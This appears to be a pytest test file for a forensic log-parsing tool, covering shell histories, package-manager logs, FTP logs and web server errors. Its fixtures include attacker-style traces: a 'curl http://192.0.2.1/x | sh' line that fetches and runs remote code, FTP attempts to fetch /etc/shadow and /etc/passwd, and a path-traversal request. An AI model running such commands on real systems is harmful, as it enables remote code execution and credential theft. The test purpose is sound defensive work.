"""Shell histories, package managers, FTP servers, web server errors."""

import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from responder.model.absent import Absent
from responder.model.time import iso
from responder.parsers import apt_history, ftp_log, package_log, shell_history, web_error
from tests.responder.parsers.conftest import run_parser

MODIFIED = 133444800000000000  # 2023-11-14T00:00:00Z


def payload(event):
    return json.loads(event.payload)


def checked(run, parser, text, **context):
    result = run(parser, text.encode(), **context)
    assert result.account.unexplained == 0
    return result


# --- shell histories

BASH = "#1700000000\nid\n#1700000005\nfor i in 1 2\ndo echo $i\ndone\n#1700000009\ncurl http://192.0.2.1/x | sh\n"
ZSH = ": 1700000000:0;id\n: 1700000005:3;echo a\\\nb\n: 1700000009:0;ls\n"
FISH = "- cmd: id\n  when: 1700000000\n- cmd: echo a\\nb\n  when: 1700000005\n  paths:\n    - /tmp\n"


@pytest.mark.parametrize(
    ("text", "shell", "commands"),
    [
        (BASH, "bash", ["id", "for i in 1 2\ndo echo $i\ndone", "curl http://192.0.2.1/x | sh"]),
        (ZSH, "zsh", ["id", "echo a\nb", "ls"]),
        (FISH, "fish", ["id", "echo a\nb"]),
    ],
)
def test_histories_with_times(run, sniff, text, shell, commands):
    assert sniff(shell_history, text.encode()) >= 88
    result = checked(run, shell_history, text)
    assert [e.process_command_line for e in result.records] == commands
    assert iso(result.records[0].time) == "2023-11-14T22:13:20Z"
    assert iso(result.records[1].time) == "2023-11-14T22:13:25Z"
    assert {(e.event_provider, e.event_action) for e in result.records} == {(shell, "command executed")}


def test_commands_before_the_first_time_have_none(run):
    result = checked(run, shell_history, "ls\npwd\n" + BASH)
    assert [e.time is Absent.NOT_COLLECTED for e in result.records] == [True, True, False, False, False]


def test_scripts_and_plain_histories_are_left_alone(sniff):
    assert sniff(shell_history, b"ls\npwd\nid\n") == 0
    assert sniff(shell_history, b"#!/bin/sh\n#1700000000\necho\n") == 0


# --- packages

DPKG = (
    "2023-11-14 22:13:20 startup archives unpack\n"
    "2023-11-14 22:13:21 install nmap:amd64 <none> 7.93\n"
    "2023-11-14 22:13:22 upgrade openssl:amd64 3.0.9 3.0.11\n"
    "2023-11-14 22:13:23 status installed openssl:amd64 3.0.11\n"
    "2023-11-14 22:13:24 remove auditd:amd64 1:3.0 <none>\n"
)
DNF = (
    "2023-11-14T22:13:20+0100 INFO --- logging initialized ---\n"
    "2023-11-14T22:13:21+0100 SUBDEBUG Upgrade: openssl-1:3.0.11-1.el9.x86_64\n"
    "2023-11-14T22:13:22+0100 SUBDEBUG Upgraded: openssl-1:3.0.9-1.el9.x86_64\n"
    "2023-11-14T22:13:23+0100 SUBDEBUG Installed: nmap-3:7.92-1.el9.x86_64\n"
    "2023-11-14T22:13:24+0100 SUBDEBUG Erase: audit-3.0.7-104.el9.x86_64\n"
)
YUM = (
    "Dec 31 23:59:58 Installed: 2:nmap-6.40-19.el7.x86_64\n"
    "Jan 01 00:00:03 Updated: openssl-1.0.2k-25.el7.x86_64\n"
    "Jan 01 00:00:04 Erased: audit-2.8.5-4.el7.x86_64\n"
)
PACMAN = (
    "[2023-11-14T22:13:20+0100] [PACMAN] Running 'pacman -S nmap'\n"
    "[2023-11-14T22:13:21+0100] [ALPM] installed nmap (7.94-1)\n"
    "[2023-11-14T22:13:22+0100] [ALPM] upgraded openssl (3.0.9-1 -> 3.0.11-1)\n"
    "[2023-11-14T22:13:23+0100] [ALPM] removed audit (3.0-1)\n"
)
ZYPPER = (
    "# 2023-11-14 22:13:20 something a script said\n"
    "2023-11-14 22:13:20|command|root@lin|'zypper' 'in' 'nmap'|\n"
    "2023-11-14 22:13:21|install|nmap|7.94-1|x86_64|root@lin|repo-oss|abc|\n"
    "2023-11-14 22:13:22|remove |audit|3.0-1|x86_64|root@lin|\n"
)


@pytest.mark.parametrize(
    ("text", "installed", "upgraded", "removed"),
    [
        (DPKG, ("nmap", "", "7.93"), ("openssl", "3.0.9", "3.0.11"), ("auditd", "1:3.0", "")),
        (DNF, ("nmap", "", "3:7.92-1.el9"), ("openssl", "", "1:3.0.11-1.el9"), ("audit", "3.0.7-104.el9", "")),
        (YUM, ("nmap", "", "2:6.40-19.el7"), ("openssl", "", "1.0.2k-25.el7"), ("audit", "2.8.5-4.el7", "")),
        (PACMAN, ("nmap", "", "7.94-1"), ("openssl", "3.0.9-1", "3.0.11-1"), ("audit", "3.0-1", "")),
        (ZYPPER, ("nmap", "", "7.94-1"), None, ("audit", "3.0-1", "")),
    ],
    ids=["dpkg", "dnf", "yum", "pacman", "zypper"],
)
def test_packages_with_their_versions(run, sniff, text, installed, upgraded, removed):
    assert sniff(package_log, text.encode()) == 93
    result = checked(run, package_log, text, modified=MODIFIED)
    assert not result.explained
    for action, expected in (
        ("package installed", installed), ("package upgraded", upgraded), ("package removed", removed),
    ):  # fmt: skip
        found = [e for e in result.records if e.event_action == action]
        assert len(found) == (expected is not None)
        if expected:
            fields = payload(found[0])
            assert (found[0].target, fields.get("old_version", ""), fields.get("new_version", "")) == expected


def test_the_year_of_yum_turns_with_the_lines(run):
    times = [iso(e.time) for e in checked(run, package_log, YUM, modified=MODIFIED).records]
    assert times == ["2022-12-31T23:59:58Z", "2023-01-01T00:00:03Z", "2023-01-01T00:00:04Z"]
    assert checked(run, package_log, YUM).records[0].time is Absent.UNPARSED


def test_written_zones_count(run):
    assert iso(checked(run, package_log, DNF).records[0].time) == "2023-11-14T21:13:20Z"


APT = (
    "\nStart-Date: 2023-11-14  22:13:20\nCommandline: apt-get install nmap\nRequested-By: alice (1000)\n"
    "Install: nmap:amd64 (7.93), liblua5.3-0:amd64 (5.3.6-2, automatic)\n"
    "Upgrade: openssl:amd64 (3.0.9, 3.0.11)\nRemove: auditd:amd64 (1:3.0)\nEnd-Date: 2023-11-14  22:13:29\n"
)


def test_apt_history(run, sniff):
    assert sniff(apt_history, APT.encode()) == 94
    command, *packages = checked(run, apt_history, APT).records
    assert (command.event_action, command.process_command_line) == ("command executed", "apt-get install nmap")
    assert (command.user_name, command.user_sid) == ("alice", "1000")
    assert [(p.event_action, p.target, p.ref) for p in packages] == [
        ("package installed", "nmap", 5), ("package installed", "liblua5.3-0", 5),
        ("package upgraded", "openssl", 6), ("package removed", "auditd", 7),
    ]  # fmt: skip
    assert payload(packages[1])["automatic"] == "yes"
    assert (payload(packages[2])["old_version"], payload(packages[2])["new_version"]) == ("3.0.9", "3.0.11")
    assert payload(packages[3])["old_version"] == "1:3.0"
    assert iso(packages[0].time) == "2023-11-14T22:13:20Z"


def test_entries_of_a_damaged_list_are_counted(run):
    result = checked(run, apt_history, APT.replace("nmap:amd64 (7.93), ", "nm ap:am/d64 (((7.93), "))
    assert result.explained == {"package entry not understood": 1}


# --- FTP

VSFTPD = (
    'Mon Jun  6 18:43:28 2016 [pid 2] CONNECT: Client "::ffff:192.0.2.9"\n'
    'Mon Jun  6 18:43:30 2016 [pid 1] [root] FAIL LOGIN: Client "192.0.2.9"\n'
    'Mon Jun  6 18:43:32 2016 [pid 1] [jean] OK LOGIN: Client "192.0.2.9"\n'
    'Mon Jun  6 18:43:59 2016 [pid 3] [jean] OK UPLOAD: Client "192.0.2.9", "/srv/a b.php", 188 bytes, 4.1Kbyte/sec\n'
    'Mon Jun  6 18:44:19 2016 [pid 3] [jean] FAIL DOWNLOAD: Client "192.0.2.9", "/etc/shadow", 0.00Kbyte/sec\n'
    'Mon Jun  6 18:44:20 2016 [pid 3] [jean] FTP response: Client "192.0.2.9", "226 done"\n'
)


def test_vsftpd(run, sniff):
    assert sniff(ftp_log, VSFTPD.encode()) == 93
    records = checked(run, ftp_log, VSFTPD).records
    assert [e.event_action for e in records] == [
        "network connection", "logon failed", "logon", "file created", Absent.NOT_APPLICABLE, Absent.NOT_APPLICABLE,
    ]  # fmt: skip
    assert {e.source_address for e in records} == {"192.0.2.9"}
    assert (records[3].target, payload(records[3])["bytes"]) == ("/srv/a b.php", "188")
    assert records[4].log_level == "warning"


def test_transfer_logs(run, sniff):
    text = (
        "Mon Jun  6 18:43:59 2016 1 192.0.2.9 188 /srv/a b.php b _ i r jean ftp 0 * c\n"
        "Mon Jun  6 18:44:01 2016 1 host.example 99 /etc/passwd b _ o a mozilla@ ftp 0 * i\n"
    )
    assert sniff(ftp_log, text.encode()) == 93
    up, down = checked(run, ftp_log, text).records
    assert (up.event_action, up.user_name, up.target) == ("file created", "jean", "/srv/a b.php")
    assert (down.event_action, down.source_address) == (Absent.NOT_APPLICABLE, "host.example")


# --- web server errors

APACHE = (
    "AH00558: apache2: Could not reliably determine the server's name\n"
    "[Mon Nov 23 08:58:41.903938 2026] [core:error] [pid 17692:tid 17708] [client 192.0.2.67:44834] AH10244: invalid URI"
    " path (/../etc/passwd), referer: http://x/\n"
    "[Wed Oct 11 14:32:52 2000] [error] [client 2001:db8::5] File does not exist: /var/www/x\n"
    "sh: 1: wget: not found\n"
)
NGINX = (
    '2023/11/14 22:13:20 [error] 31#31: *7 open() "/srv/x" failed (2: No such file or directory), client: 192.0.2.67, '
    'server: _, request: "GET /x,y HTTP/1.1", host: "www"\n'
    "2023/11/14 22:13:21 [notice] 1#1: signal process started\n"
)


def test_apache_errors(run, sniff):
    result = checked(run, web_error, APACHE)
    first, new, old, shell = result.records
    assert sniff(web_error, APACHE.encode()) == 60
    assert (new.source_address, new.source_port, new.log_level) == ("192.0.2.67", 44834, "error")
    assert iso(new.time) == "2026-11-23T08:58:41.903938Z"
    assert (payload(new)["code"], payload(new)["referer"]) == ("AH10244", "http://x/")
    assert (old.source_address, old.source_port) == ("2001:db8::5", Absent.NOT_APPLICABLE)
    assert shell.message == "sh: 1: wget: not found"
    assert shell.time is first.time is Absent.NOT_COLLECTED
    assert any("2 lines have no time" in w for w in result.warnings)


def test_nginx_errors(run, sniff):
    assert sniff(web_error, NGINX.encode()) == 93
    first, second = checked(run, web_error, NGINX).records
    assert (first.source_address, first.target) == ("192.0.2.67", "GET /x,y HTTP/1.1")
    assert (second.log_level, second.process_pid) == ("notice", 1)


@settings(max_examples=150, deadline=None)
@given(st.text(max_size=400))
def test_any_text_is_accounted_for(text):
    for parser in (shell_history, package_log, apt_history, ftp_log, web_error):
        assert run_parser(parser, text.encode("utf-8", "surrogatepass")).account.unexplained == 0


def test_samples(run, samples, sniff):
    expected = {
        "plaso_bash_history": (shell_history, 4), "plaso_zsh_extended_history.txt": (shell_history, 4),
        "plaso_dpkg.log": (package_log, 4), "plaso_apt_history.log": (apt_history, 807),
        "plaso_vsftpd.log": (ftp_log, 25), "apache2_error.log": (web_error, 8),
    }  # fmt: skip
    for name, (parser, count) in expected.items():
        data = (samples / "linux" / name).read_bytes()
        assert sniff(parser, data) >= 88, name
        result = run(parser, data)
        assert (len(result.records), result.account.unexplained, result.explained) == (count, 0, {}), name
